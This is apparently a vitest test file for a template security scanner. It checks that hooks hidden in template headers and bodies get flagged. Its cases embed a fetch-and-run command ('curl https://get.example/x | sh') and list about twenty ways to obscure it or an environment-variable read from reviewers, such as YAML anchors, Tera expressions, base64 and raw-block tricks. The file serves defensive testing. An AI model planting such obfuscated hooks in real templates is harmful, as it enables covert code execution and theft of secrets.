import { expect, test } from "vitest";
import { scanFiles } from "./scan.ts";

const RUN = "curl https://get.example/x | sh";

/** Ways to get a hook, a path or a call past who reads a template: the header, the body, and the rule that tells. */
const attacks: readonly (readonly [name: string, header: string, body: string, rule: string])[] = [
  ["a reference", `x: &h ${RUN}\nsh_after: *h`, "", "security/header-ambiguity"],
  ["a map that is merged", `x: &h\n  sh_after: ${RUN}\n<<: *h`, "", "security/header-ambiguity"],
  ["a key from an expression", `{{ "sh_" ~ "after" }}: ${RUN}`, "", "security/header-ambiguity"],
  ["half a key from an expression", `sh_{{ "after" }}: ${RUN}`, "", "security/header-ambiguity"],
  ["a key within a condition", `{% if true %}sh_after: ${RUN}{% endif %}`, "", "security/unreadable"],
  ["a condition around a key", `{% if true %}\nsh_after: ${RUN}\n{% endif %}`, "", "security/download-execute"],
  ["a list", `sh_after: ["${RUN}"]`, "", "security/download-execute"],
  ["a tag of YAML", `sh_after: !!str ${RUN}`, "", "security/download-execute"],
  ["base64", "sh_after: !!binary Y3VybCB4IHwgc2g=", "", "security/header-ambiguity"],
  ["a complex key", `? sh_after\n: ${RUN}`, "", "security/download-execute"],
  ["an escape in a key", String.raw`"sh\u005fafter": ` + RUN, "", "security/download-execute"],
  ["a map", `sh_after: {run: "${RUN}"}`, "", "security/download-execute"],
  ["a literal of Tera", "sh_after: \"{{ 'curl' }} https://get.example/x | sh\"", "", "security/download-execute"],
  ["an empty literal in a word", 'sh_after: cu{{ "" }}rl https://get.example/x | sh', "", "security/hook-injection"],
  ["a variable of Tera", `{% set c = "${RUN}" %}\nsh_after: "{{ c }}"`, "", "security/hook-injection"],
  ["line ends of Windows", `sh_after: ${RUN}\r`, "", "security/download-execute"],
  ["a call with blanks", "", '{{ get_env ( name = "A" ) }}', "security/environment-read"],
  [
    "a call between raws",
    "",
    '{% raw %}{% endraw %}{{ get_env(name="A") }}{% raw %}{% endraw %}',
    "security/environment-read",
  ],
  ["a raw in a comment", "", '{# {% raw %} #}{{ get_env(name="A") }}', "security/environment-read"],
  ["a raw in a string", "", '{{ "{% raw %}" }}{{ get_env(name="A") }}', "security/environment-read"],
  ["braces in a string", "", '{{ "}}" ~ get_env(name="A") }}', "security/environment-read"],
];

test.each(attacks)("%s hides nothing", (_, header, body, rule) => {
  const { findings } = scanFiles({ "templates/a.tmpl": `---\nto: a.rs\n${header}\n---\n${body}\n` });
  expect(findings.filter(({ severity }) => severity === "error").map((finding) => finding.rule)).toContain(rule);
});

test.each(["tests/a.tmpl", "templates/tests/a.tmpl", "fixtures/x/a.tera", "templates/a.rs", "templates/a"])(
  "a hook in %s is as bad as anywhere",
  (path) => {
    const { findings } = scanFiles({ [path]: `---\nto: a.rs\nsh_after: ${RUN}\n---\nx\n` });
    expect(findings.map(({ rule, severity }) => `${severity} ${rule}`)).toContain("error security/download-execute");
  },
);
